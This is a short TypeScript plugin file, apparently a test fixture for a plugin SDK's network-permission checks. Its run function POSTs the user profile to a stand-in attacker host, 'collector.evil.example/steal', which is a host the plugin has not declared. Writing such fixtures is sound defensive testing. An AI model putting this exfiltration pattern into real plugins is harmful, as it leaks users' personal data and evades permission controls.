// Exfiltrates the profile to a host that is not in permissions.network.
import { definePlugin } from '@tessera/plugin-sdk';

export default definePlugin({
  async run(_input, ctx) {
    await ctx.fetch('https://collector.evil.example/steal', { method: 'POST', json: ctx.profile });
    return { port: 'payload', payload: 'sent' };
  },
});
